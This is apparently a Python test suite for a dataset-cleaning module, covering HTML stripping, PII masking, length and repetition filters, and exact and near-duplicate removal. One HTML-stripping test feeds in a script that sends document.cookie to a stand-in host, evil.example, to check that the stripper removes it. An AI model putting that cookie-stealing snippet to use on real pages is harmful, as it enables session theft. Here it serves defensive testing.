"""Tests of the cleaning stage (nbtune.data.clean): each step on hand-made examples, then properties."""

from __future__ import annotations

import copy
import re

import datasets
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nbtune.config import CleanConfig
from nbtune.data import clean
from nbtune.errors import ConfigError, DataError

datasets.disable_progress_bars()

# ----------------------------------------------------------------------------- helpers

WORDS = [
    "alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa", "lambda", "mu", "nu",
    "xi", "omicron", "pi", "rho", "sigma", "tau", "upsilon", "phi", "chi", "psi", "omega", "river", "stone",
    "cloud", "forest", "light", "quiet", "window", "paper", "garden", "summer",
]


def sentence(rng: np.random.Generator, n: int = 12) -> str:
    return " ".join(rng.choice(WORDS, size=n)).capitalize() + "."


def text_ds(texts: list[str], row_ids: list[int] | None = None) -> datasets.Dataset:
    ids = list(range(len(texts))) if row_ids is None else row_ids
    return datasets.Dataset.from_dict({"row_id": ids, "text": texts},
                                      features=datasets.Features({"row_id": datasets.Value("int64"),
                                                                  "text": datasets.Value("string")}))


def chat_ds(conversations: list[list[tuple[str, str]]]) -> datasets.Dataset:
    return datasets.Dataset.from_dict({
        "row_id": list(range(len(conversations))),
        "messages": [[{"role": r, "content": c} for r, c in conv] for conv in conversations],
    })


def only(**changes) -> CleanConfig:
    """A config with every step off except the given settings."""
    base = CleanConfig(unicode_form=None, strip_html=False, collapse_whitespace=False, mask_pii=False,
                       min_chars=None, repetition_filter=False, exact_dedup=False, near_dedup=False)
    return base.replace(**changes)


# ----------------------------------------------------------------------------- active_steps


def test_active_steps_default_and_all():
    assert clean.active_steps(CleanConfig()) == [
        "normalize_unicode", "strip_html", "collapse_whitespace", "length_filter", "repetition_filter", "exact_dedup"]
    everything = CleanConfig(max_row_chars=10**6, mask_pii=True, max_words=100, drop_regex="x", near_dedup=True)
    assert clean.active_steps(everything) == list(clean.STEP_KINDS)
    assert clean.active_steps(only()) == []
    assert clean.active_steps(only(min_chars=0)) == []  # a bound that removes nothing is not a step


# ----------------------------------------------------------------------------- transforms


def test_normalize_unicode_forms():
    assert clean.normalize_unicode("e\u0301", "NFC") == "\u00e9"
    assert clean.normalize_unicode("\u00e9", "NFD") == "e\u0301"
    assert clean.normalize_unicode("\uff21\uff22\uff23 \ufb01", "NFKC") == "ABC fi"
    assert clean.normalize_unicode("plain ascii", "NFKC") == "plain ascii"


def test_strip_html_removes_script_and_style_payloads():
    page = ("<html><head><style>body { color: red }</style><script type='text/javascript'>"
            "document.location='http://evil.example/?c='+document.cookie</script></head>"
            "<body><!-- tracking --><p>Hello &amp; <b>welcome</b></p><script>alert(1)</script></body></html>")
    out = clean.collapse_whitespace(clean.strip_html(page))
    assert out == "Hello & welcome"
    for payload in ("alert", "cookie", "color", "tracking", "<", ">"):
        assert payload not in out


def test_strip_html_entities_and_block_tags():
    assert clean.strip_html("caf&eacute; &#233; &#xE9; &lt;3") == "café é é <3"
    assert clean.collapse_whitespace(clean.strip_html("<p>one</p><p>two</p>line<br/>break")) == "one\n\ntwo\nline\nbreak"
    assert clean.strip_html("<td>a</td><td>b</td>").split() == ["a", "b"]
    assert clean.strip_html('<a href="x.html" title="a > b">link</a>') == "link"
    # Double escaping is fully decoded (and then a decoded tag is a tag).
    assert clean.strip_html("AT&amp;amp;T") == "AT&T"
    assert "alert" not in clean.strip_html("&lt;script&gt;alert(1)&lt;/script&gt;")


def test_strip_html_leaves_non_markup_alone():
    for text in ("x<y and y>z", "a < b > c", "List<T> and Map<K, V>", "R&D, AT&T, fish&chips", "&notes",
                 "<EMAIL> <PHONE> <IP>", "5 > 3 < 4", "unknown &foo; entity"):
        assert clean.strip_html(text) == text


def test_strip_html_keeps_markdown_code():
    answer = "Use `<div>` here:\n```html\n<p class='x'>hi</p>\n<script>run()</script>\n```\nthen <b>done</b>"
    assert clean.strip_html(answer) == "Use `<div>` here:\n```html\n<p class='x'>hi</p>\n<script>run()</script>\n```\nthen done"


def test_collapse_whitespace():
    messy = "  Hello \t  world  \r\n\r\n\r\n\n   second\u00a0line\t\n\n\n\nthird  "
    assert clean.collapse_whitespace(messy) == "Hello world\n\nsecond line\n\nthird"
    assert clean.collapse_whitespace("a\u2028b\x85c\u3000d") == "a\nb\nc d"
    assert clean.collapse_whitespace(" \n\t ") == ""


def test_collapse_whitespace_keeps_code_fence_indentation():
    text = "Here:\n\n\n```python\ndef f():\n    return  1\n\n\n\n```\n   after  "
    assert clean.collapse_whitespace(text) == "Here:\n\n```python\ndef f():\n    return  1\n\n\n\n```\nafter"


@pytest.mark.parametrize("text, masked", [
    ("write to john.doe+news@example.co.uk today", "write to <EMAIL> today"),
    ("call +1 (555) 123-4567 now", "call <PHONE> now"),
    ("call 555-123-4567", "call <PHONE>"),
    ("call 555.123.4567", "call <PHONE>"),
    ("call 555 123 4567", "call <PHONE>"),
    ("call (555) 123-4567", "call <PHONE>"),
    ("call 555-1234", "call <PHONE>"),
    ("ring +44 20 7946 0958", "ring <PHONE>"),
    ("ring 020 7946 0958", "ring <PHONE>"),
    ("ring +33 1 23 45 67 89", "ring <PHONE>"),
    ("ring +14155552671", "ring <PHONE>"),
    ("host 192.168.0.1 up", "host <IP> up"),
    ("host 2001:db8::ff00:42:8329 up", "host <IP> up"),
    ("host fe80::1 up", "host <IP> up"),
    ("mail a@b.io, phone 555-987-6543, ip 10.0.0.255.", "mail <EMAIL>, phone <PHONE>, ip <IP>."),
])
def test_mask_pii_masks(text, masked):
    assert clean.mask_pii(text) == masked


@pytest.mark.parametrize("text", [
    "born in 1999, graduated 2021", "the years 1990-2000", "on 2021-03-04", "on 04.03.2021", "pi is 3.14159265",
    "1,234,567 people", "code 12345", "version 1.2", "at 12:30:45", "std::vector and a::b", "scores 12 15 18 22",
    "timestamp 1700000000", "f :: Int -> Int", "room 101", "no pii here @ all", "MAC 00:1A:2B:3C:4D:5E",
    "ISBN 3.14.15", "1990 2000 2010",
])
def test_mask_pii_leaves_non_pii(text):
    assert clean.mask_pii(text) == text


# ----------------------------------------------------------------------------- per-row filters


def test_length_filter_reasons():
    ds = text_ds(["abc", "a" * 20, "one two three four five six", "x " * 40])
    res = clean.preview(ds, only(min_chars=5, max_chars=50, min_words=2, max_words=30))
    assert res.removed_reasons[0] == "too short: 3 chars < min_chars=5"
    assert res.removed_reasons[1] == "too few words: 1 < min_words=2"
    assert res.removed_reasons[3] == "too long: 80 chars > max_chars=50"
    assert res.dataset["row_id"] == [2]
    res = clean.preview(ds, only(max_words=5))
    assert res.removed_reasons[2] == "too many words: 6 > max_words=5"


def test_regex_filters():
    ds = text_ds(["keep me: python", "spam spam buy now", "nothing here"])
    res = clean.preview(ds, only(keep_regex=r"(?i)python|spam", drop_regex=r"buy now"))
    assert res.dataset["row_id"] == [0]
    assert res.removed_reasons[1].startswith("matches drop_regex 'buy now'")
    assert res.removed_reasons[2].startswith("does not match keep_regex")


def test_repetition_duplicate_lines():
    rng = np.random.default_rng(1)
    boiler = "\n".join(["Click here to subscribe to our newsletter"] * 8 + [sentence(rng) for _ in range(4)])
    assert clean.duplicate_line_fraction(boiler) == pytest.approx(7 / 12)
    ds = text_ds([boiler, sentence(rng)])
    res = clean.preview(ds, only(repetition_filter=True, repetition_min_words=10), sample_size=10)
    assert res.removed_reasons == {0: "repetitive: 58% duplicated lines > max_duplicate_line_fraction=0.3"}


def test_repetition_duplicate_ngrams_and_min_words():
    rng = np.random.default_rng(2)
    phrase = "buy the best cheap watches online today"
    spam = " ".join([phrase] * 6 + [sentence(rng) for _ in range(2)])  # one line, repeated 5-grams
    natural = " ".join(sentence(rng, 15) for _ in range(6))
    words = spam.split()
    assert 0.5 < clean.duplicate_ngram_char_fraction(words) < 1.0
    assert clean.duplicate_ngram_char_fraction(["a", "b", "c", "d", "e"]) == 0.0
    assert clean.duplicate_ngram_char_fraction(["a", "b", "c", "d", "e", "a", "b", "c", "d", "e"]) == 0.5
    cfg = only(repetition_filter=True, repetition_min_words=20)
    res = clean.preview(text_ds([spam, natural, " ".join([phrase] * 2)]), cfg)
    assert res.removed_reasons[0].startswith("repetitive: ")
    assert "of characters in duplicated 5-grams > max_duplicate_ngram_fraction=0.15" in res.removed_reasons[0]
    assert 1 not in res.removed_reasons  # natural text
    assert 2 not in res.removed_reasons  # repetitive but shorter than repetition_min_words: not judged


# ----------------------------------------------------------------------------- dedup


def test_exact_dedup_reason_points_at_kept_row():
    texts = ["The quick brown fox.", "other text", "the  QUICK brown\tfox.", "The quick brown fox.", "other text!"]
    ds = text_ds(texts, row_ids=[10, 11, 12, 13, 14])
    res = clean.apply(ds, only(exact_dedup=True))
    assert res.dataset["row_id"] == [10, 11, 14]
    assert res.removed_reasons == {12: "duplicate of row 10", 13: "duplicate of row 10"}
    step = res.steps[-1]
    assert (step.name, step.kind, step.removed) == ("exact_dedup", "filter", 2)
    assert step.removed_examples[0] == (12, "the  QUICK brown\tfox.", "duplicate of row 10")


def test_near_dedup_reason_and_dissimilar_rows_kept():
    rng = np.random.default_rng(3)
    base = " ".join(sentence(rng, 15) for _ in range(6))
    near = base.replace(".", "!", 2) + " extra"  # same words but the very end
    other = " ".join(sentence(rng, 15) for _ in range(6))
    ds = text_ds([base, other, near], row_ids=[5, 6, 7])
    res = clean.apply(ds, only(near_dedup=True))
    assert res.dataset["row_id"] == [5, 6]
    assert re.fullmatch(r"near-duplicate of row 5 \(Jaccard≈(0\.\d\d|1\.00)\)", res.removed_reasons[7])
    assert float(res.removed_reasons[7].split("≈")[1][:-1]) >= 0.8
    # Exact duplicates are near-duplicates too, but with exact dedup on they are reported as exact.
    res = clean.apply(text_ds([base, base]), only(exact_dedup=True, near_dedup=True))
    assert res.removed_reasons == {1: "duplicate of row 0"}


def test_minhash_estimates_jaccard():
    rng = np.random.default_rng(4)
    a = [str(w) for w in rng.integers(0, 10**9, 400)]
    b = a[:300] + [str(w) for w in rng.integers(0, 10**9, 100)]  # 396 5-grams each, 296 shared: 496 distinct
    sig = clean.minhash_signatures([" ".join(a), " ".join(b), "short text", "Short, TEXT!"])
    assert sig.shape == (4, clean.NUM_PERM) and sig.dtype == np.uint32
    assert abs((sig[0] == sig[1]).mean() - 296 / 496) < 0.15
    assert (sig[2] == sig[3]).all()  # fewer than 5 words: the whole normalised text is one shingle
    assert (clean.minhash_signatures(["short text"]) == sig[2]).all()  # stable between calls


def test_lsh_params():
    b, r = clean.lsh_params(0.8)
    assert b * r <= clean.NUM_PERM and r >= 2
    assert 1 - (1 - 0.8**r) ** b > 0.8  # pairs at the threshold are usually candidates
    assert 1 - (1 - 0.4**r) ** b < 0.05  # far-apart pairs rarely are


# ----------------------------------------------------------------------------- chat rows


def test_chat_rows_transform_every_message_and_filter_the_whole_conversation():
    ds = chat_ds([
        [("system", "Be  <b>brief</b>."), ("user", "Hi,  mail me at a@b.com"), ("assistant", "Sure &amp; thanks")],
        [("system", "be brief."), ("user", "hi, mail me at <EMAIL>"), ("assistant", "sure & thanks")],
        [("user", "be brief.\nhi, mail me at <EMAIL>\nsure & thanks")],  # same words, different roles
        [("user", "   "), ("assistant", "\t")],
    ])
    res = clean.apply(ds, CleanConfig(mask_pii=True))
    assert res.dataset.features == ds.features
    first = res.dataset[0]["messages"]
    assert [m["role"] for m in first] == ["system", "user", "assistant"]
    assert [m["content"] for m in first] == ["Be brief.", "Hi, mail me at <EMAIL>", "Sure & thanks"]
    assert res.removed_reasons == {1: "duplicate of row 0", 3: "too short: 0 chars < min_chars=1"}
    assert res.lengths_before[3] == len("   \n\t")
    html_step = next(s for s in res.steps if s.name == "strip_html")
    assert html_step.changed == 1
    # mask_pii is on: the example of an earlier step does not show the address either
    assert html_step.changed_examples == [(0, "Be  <b>brief</b>.\nHi,  mail me at [EMAIL]\nSure &amp; thanks",
                                           "Be  brief.\nHi,  mail me at [EMAIL]\nSure & thanks")]
    mask_step = next(s for s in res.steps if s.name == "mask_pii")
    at = len("Be brief.\nHi, mail me at ")
    assert mask_step.changed_examples == [(0, f"Be brief.\nHi, mail me at [EMAIL at char {at}–{at + 7}]\nSure & thanks",
                                           "Be brief.\nHi, mail me at <EMAIL>\nSure & thanks")]


# ----------------------------------------------------------------------------- stats, errors, API


def test_step_stats_counts_and_lengths():
    texts = ["<p>Hello</p>", "hello", "  spaced   out  ", "", "fine text", "fine text"]
    res = clean.apply(text_ds(texts), CleanConfig())
    stats = {s.name: s for s in res.steps}
    assert [s.name for s in res.steps] == clean.active_steps(CleanConfig())
    assert stats["strip_html"].changed == 1
    assert stats["strip_html"].changed_examples == [(0, "<p>Hello</p>", "\nHello\n")]
    assert stats["collapse_whitespace"].changed == 2  # row 0 (the newlines strip_html left) and row 2
    assert stats["length_filter"].removed == 1
    assert stats["exact_dedup"].removed == 2
    assert res.rows_before == 6 and res.rows_after == 3 == len(res.dataset)
    assert res.lengths_before == [len(t) for t in texts]
    assert res.lengths_after == [5, 10, 9]
    assert res.removed_reasons == {1: "duplicate of row 0", 3: "too short: 0 chars < min_chars=1",
                                   5: "duplicate of row 4"}
    assert not res.sampled and res.seconds > 0
    total_removed = sum(s.removed for s in res.steps)
    assert total_removed == res.rows_before - res.rows_after == len(res.removed_reasons)


def test_examples_are_capped_at_five():
    res = clean.apply(text_ds([f"<i>row {i}</i>" for i in range(12)] + ["row 0"] * 8), CleanConfig())
    stats = {s.name: s for s in res.steps}
    assert stats["strip_html"].changed == 12 and len(stats["strip_html"].changed_examples) == 5
    assert stats["exact_dedup"].removed == 8 and len(stats["exact_dedup"].removed_examples) == 5


def test_emptying_the_data_raises_a_helpful_error():
    ds = text_ds([f"short row {i}" for i in range(1000)])
    with pytest.raises(DataError) as info:
        clean.apply(ds, CleanConfig(min_chars=500))
    msg = str(info.value)
    assert "min_chars=500 removed 1000 of 1000 rows" in msg
    assert "lower min_chars" in msg
    with pytest.raises(DataError, match=r"(?s)keep_regex='\^zzz' removed 1000 of 1000 rows.*loosen keep_regex"):
        clean.preview(ds, CleanConfig(keep_regex="^zzz"))
    with pytest.raises(DataError, match="only whitespace or only HTML"):
        clean.apply(text_ds(["<script>x()</script>", "   "]), CleanConfig())


def test_bad_input_raises():
    with pytest.raises(ConfigError):
        clean.apply(text_ds(["a"]), CleanConfig(min_chars=10, max_chars=5))
    with pytest.raises(ConfigError):
        clean.preview(text_ds(["a"]), CleanConfig(near_dedup_threshold=2.0))
    with pytest.raises(DataError, match="no 'text' or 'messages' column"):
        clean.apply(datasets.Dataset.from_dict({"body": ["x"]}), CleanConfig())
    with pytest.raises(DataError, match="no rows"):
        clean.apply(text_ds([]), CleanConfig())


def test_preview_on_100k_rows_is_a_sample():
    rng = np.random.default_rng(5)
    pool = [sentence(rng) for _ in range(5000)]
    ds = text_ds([pool[i % 5000] + f" #{i // 5000}" for i in range(100_000)])
    res = clean.preview(ds, CleanConfig(near_dedup=True), sample_size=2000, seed=1)
    assert res.sampled and res.rows_before == 2000
    assert 0 < res.rows_after <= 2000 and len(res.dataset) == res.rows_after
    assert res.dataset.features == ds.features
    ids = res.dataset["row_id"]
    assert ids == sorted(ids) and set(ids) <= set(range(100_000))
    again = clean.preview(ds, CleanConfig(near_dedup=True), sample_size=2000, seed=1)
    assert again.dataset["row_id"] == ids  # seeded


def test_preview_and_apply_agree_on_small_data():
    texts = ["<b>A</b>  b", "a b", "x" * 3, "", "Other words here."]
    cfg = CleanConfig(min_chars=2)
    p, a = clean.preview(text_ds(texts), cfg), clean.apply(text_ds(texts), cfg)
    assert not p.sampled
    assert p.dataset.to_dict() == a.dataset.to_dict()
    assert p.removed_reasons == a.removed_reasons
    assert [(s.name, s.changed, s.removed) for s in p.steps] == [(s.name, s.changed, s.removed) for s in a.steps]


def test_apply_with_two_processes_matches_one():
    rng = np.random.default_rng(6)
    texts = [sentence(rng) for _ in range(300)]
    texts += texts[:50] + ["<p>" + t + "</p>" for t in texts[50:60]]
    cfg = CleanConfig(near_dedup=True, mask_pii=True)
    one, two = clean.apply(text_ds(texts), cfg, num_proc=1), clean.apply(text_ds(texts), cfg, num_proc=2)
    assert one.dataset.to_dict() == two.dataset.to_dict()
    assert one.removed_reasons == two.removed_reasons


def test_apply_on_a_shuffled_view():
    ds = text_ds(["b", "a", "b", "c"]).shuffle(seed=0)
    res = clean.apply(ds, CleanConfig())
    assert sorted(res.dataset["text"]) == ["a", "b", "c"]
    assert set(res.dataset["row_id"]) | set(res.removed_reasons) == {0, 1, 2, 3}


# ----------------------------------------------------------------------------- properties

FRAGMENTS = [
    "<p>", "</p>", "<b>", "</b>", "<br/>", "<script>", "</script>", "<style>", "</style>", "<!--", "-->", "<a href='>'>",
    "&amp;", "&lt;", "&gt;", "&#769;", "&#x60;", "&nbsp;", "&bogus;", "```", "`", "\n", "\r\n", "  ", "\t", "\u00a0",
    "\u2028", "e", "\u0301", "\u0338", ">", "<", "Ａ", "ﬁ", "john@example.com", "a@b.co", "555-123-4567",
    "+1 (555) 123-4567", "1999", "2021-03-04", "192.168.0.1", "2001:db8::1", "::", "12:30", "<EMAIL>", "<PHONE>",
    "<IP>", " ", ".", "-", "+", "(", ")", "0", "7", "word", "Word", "x", "@",
]
texts = st.one_of(
    st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join),
    st.text(alphabet=st.sampled_from(list("<>&;#/ \t\n\r`@.:+-()0123456789abcxyzAB\u00e9\u0301\u00a0\u3000\x85")),
            max_size=60),
    st.text(max_size=40),
)
FAST = settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(texts, st.sampled_from(["NFC", "NFKC", "NFD", "NFKD"]))
def test_each_transform_is_idempotent(text, form):
    for fn in (lambda t: clean.normalize_unicode(t, form), clean.strip_html, clean.collapse_whitespace, clean.mask_pii):
        once = fn(text)
        assert fn(once) == once


@FAST
@given(texts)
def test_collapse_whitespace_postconditions(text):
    out = clean.collapse_whitespace(text)
    if "```" not in text:
        assert "  " not in out and "\t" not in out and "\r" not in out and "\n\n\n" not in out
        assert out == out.strip()


@FAST
@given(st.lists(texts, min_size=1, max_size=12), st.sampled_from(["NFC", "NFKC"]), st.booleans())
def test_pipeline_is_idempotent_never_adds_rows_and_never_mutates_input(rows, form, near):
    ds = text_ds(rows + ["anchor row that always survives"])
    before = copy.deepcopy(ds.to_dict())
    cfg = CleanConfig(unicode_form=form, mask_pii=True, near_dedup=near, min_chars=1)
    res = clean.preview(ds, cfg)
    assert ds.to_dict() == before
    assert res.rows_after == len(res.dataset) <= len(ds)
    assert set(res.dataset["row_id"]) <= set(before["row_id"])
    assert set(res.dataset["row_id"]).isdisjoint(res.removed_reasons)
    assert len(res.dataset) + len(res.removed_reasons) == len(ds)
    again = clean.preview(res.dataset, cfg)
    assert again.dataset.to_dict() == res.dataset.to_dict()
    assert again.removed_reasons == {}
    assert all(s.changed == 0 and s.removed == 0 for s in again.steps)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.tuples(st.sampled_from(["system", "user", "assistant"]), texts), min_size=1, max_size=3),
                min_size=1, max_size=6))
def test_apply_on_chat_rows_is_idempotent_and_pure(conversations):
    ds = chat_ds(conversations + [[("user", "hello there"), ("assistant", "general kenobi")]])
    before = copy.deepcopy(ds.to_dict())
    cfg = CleanConfig(mask_pii=True, near_dedup=True)
    res = clean.apply(ds, cfg)
    assert ds.to_dict() == before
    assert set(res.dataset["row_id"]) <= set(before["row_id"]) and len(res.dataset) <= len(ds)
    again = clean.apply(res.dataset, cfg)
    assert again.dataset.to_dict() == res.dataset.to_dict()
    assert again.removed_reasons == {}


@settings(max_examples=25, deadline=None)
@given(st.lists(st.sampled_from(["alpha beta gamma delta epsilon", "alpha beta gamma delta zeta",
                                 "one two three four five six seven", "one two three four five six eight",
                                 "x", "X  x", "completely different words in this one row"]), min_size=1, max_size=30))
def test_dedup_keeps_first_occurrence_and_points_at_kept_rows(rows):
    ds = text_ds(rows)
    res = clean.preview(ds, CleanConfig(near_dedup=True, near_dedup_threshold=0.5))
    kept = set(res.dataset["row_id"])
    seen = {}
    for i, t in enumerate(rows):  # exact duplicates: the same words, whatever the case and the spacing
        seen.setdefault(" ".join(t.lower().split()), i)
    for first in seen.values():  # the first occurrence of each text is kept unless a near-dup of a kept row
        if first not in kept:
            assert res.removed_reasons[first].startswith("near-duplicate of row ")
    for rid, why in res.removed_reasons.items():
        mentioned = [int(n) for n in re.findall(r"row (\d+)", why)]
        assert mentioned[-1] in kept and all(m < rid for m in mentioned)
